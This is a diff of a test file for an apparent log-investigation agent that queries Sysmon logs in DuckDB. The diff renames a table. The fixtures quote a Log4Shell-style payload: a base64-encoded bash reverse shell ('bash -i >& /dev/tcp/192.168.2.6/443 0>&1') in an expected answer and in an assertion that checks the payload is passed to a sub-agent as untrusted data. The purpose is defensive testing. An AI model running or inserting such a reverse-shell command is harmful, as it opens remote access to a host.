@@ -21,9 +21,9 @@ const alert = {
   TimeGenerated: '2022-05-11T18:10:22Z',
 };
 const decodeSql =
-  "select Computer, try(decode(from_base64(regexp_extract(SyslogMessage, '\\{echo,([A-Za-z0-9+/=]+)\\}', 1)))) as decoded_command from log4shell_linux_sysmon where SyslogMessage like '%{echo,%'";
+  "select Computer, try(decode(from_base64(regexp_extract(SyslogMessage, '\\{echo,([A-Za-z0-9+/=]+)\\}', 1)))) as decoded_command from ubuntu5_sysmon where SyslogMessage like '%{echo,%'";
 const learned =
-  'log4shell_linux_sysmon.SyslogMessage holds the Sysmon XML; decode {echo,<base64>} payloads with from_base64.';
+  'ubuntu5_sysmon.SyslogMessage holds the Sysmon XML; decode {echo,<base64>} payloads with from_base64.';
 const firstAnswer =
   'The JVM ran bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}, which decodes to bash -i >& /dev/tcp/192.168.2.6/443 0>&1: a reverse shell to 192.168.2.6 on port 443, as the tomcat user.';
 const padding = ` Evidence row: java → bash → base64 -d → bash -i on UBUNTU5 at 2022-05-11T18:10:22Z.`.repeat(
@@ -118,7 +118,7 @@ function investigation(target: {
       expect(first.stderr).toContain('→ logs_run');
       expect(first.stderr).toMatch(/ {2}logs_run · query .*\(\d+ ms\)/);
       expect(first.stderr).toContain('logs_run memory: 1 new');
-      expect(JSON.stringify(first.requests[0]?.body?.messages)).toContain('log4shell_linux_sysmon');
+      expect(JSON.stringify(first.requests[0]?.body?.messages)).toContain('ubuntu5_sysmon');
       // The row DuckDB returned reached the sub-agent's model as data.
       expect(JSON.stringify(first.requests[2]?.body?.messages)).toMatch(
         /untrusted-data[\s\S]*bash -i >& \/dev\/tcp\/192.168.2.6\/443 0>&1/,
